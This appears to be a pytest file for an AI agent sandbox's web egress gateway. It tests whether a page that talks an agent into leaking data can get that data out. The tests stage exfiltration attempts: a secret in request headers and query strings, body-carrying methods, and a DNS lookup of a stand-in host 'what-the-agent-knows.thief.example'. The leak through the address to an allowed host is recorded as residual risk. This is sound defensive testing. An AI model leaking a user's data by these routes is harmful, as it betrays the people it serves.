"""A page talks an agent into sending what it knows: what leaves, by which way, and what is written of it.

The agent here does all that it is told, so that what is left is the residual risk: words in the address of a
host that the run allows.
"""

from __future__ import annotations

import pytest

from tests.sandbox.gateway.conftest import Enter
from tests.sandbox.gateway.web.conftest import MADE_UP, MakeDoor, OddSite
from tests.sandbox.gateway.web.test_browser import connected, say
from tests.sandbox.gateway.web.test_fetch import fetch, refused
from tests.sandbox.gateway.web.test_policy import ADDRESSES, CASES, SPELLINGS

TOLD = "what-the-agent-knows"


async def test_nothing_but_the_address_reaches_an_allowed_host_and_that_is_recorded(
    enter: Enter, door_to: MakeDoor, odd_site: OddSite
) -> None:
    asked = f"{odd_site.http}/page?note={TOLD}"
    smuggled = [f"{name}: {TOLD}" for name in ("Cookie", "Authorization", "Referer", "X-Note", "User-Agent")]
    async with enter(web=door_to()) as inside, connected(inside) as (reader, writer):
        await say(reader, writer, f"GET {odd_site.http}/page HTTP/1.1", "Host: x", *smuggled)
        await fetch(inside, asked)
        events = inside.events("egress")
    by_header, by_address = odd_site.asked
    assert TOLD not in str(dict(by_header.headers)) + str(by_header.url)
    assert by_address.query["note"] == TOLD  # the residual risk: an allowed host sees the addresses asked for
    assert [event["url"] for event in events] == [f"{odd_site.http}/page", asked]


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
async def test_no_method_with_a_body_gets_out(
    enter: Enter, door_to: MakeDoor, odd_site: OddSite, method: str
) -> None:
    async with enter(web=door_to()) as inside, connected(inside) as (reader, writer):
        status, _, _ = await say(reader, writer, f"{method} {odd_site.http}/page HTTP/1.1", "Host: x")
        [event] = inside.events("egress")
    assert status.startswith("HTTP/1.1 403")
    assert (event["decision"], odd_site.asked) == ("denied", [])


async def test_a_host_that_is_not_allowed_hears_nothing_not_even_its_name(
    enter: Enter, door_to: MakeDoor, odd_site: OddSite
) -> None:
    """Refused before a name is looked up: the question to a name server would carry words, too."""
    door = door_to(names={f"{TOLD}.thief.example": [MADE_UP]}, allow=["guide.test"], local=False)
    async with enter(web=door) as inside:
        kind, why = await refused(inside, f"http://{TOLD}.thief.example/")
        [event] = inside.events("egress")
    assert (kind, event["decision"]) == ("denied", "denied")
    assert "is not among the hosts that the run allows" in why


async def test_the_browser_is_refused_what_open_page_is_refused(enter: Enter, door_to: MakeDoor) -> None:
    asked = [url for url in (*CASES, *SPELLINGS, *ADDRESSES) if url.startswith("http") and url.isascii()]
    async with enter(web=door_to(local=False)) as inside:
        for url in asked:
            async with connected(inside) as (reader, writer):
                status, _, _ = await say(reader, writer, f"GET {url} HTTP/1.1", "Host: x")
            assert status.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), url
        decisions = {event["decision"] for event in inside.events("egress")}
    assert decisions == {"denied"}
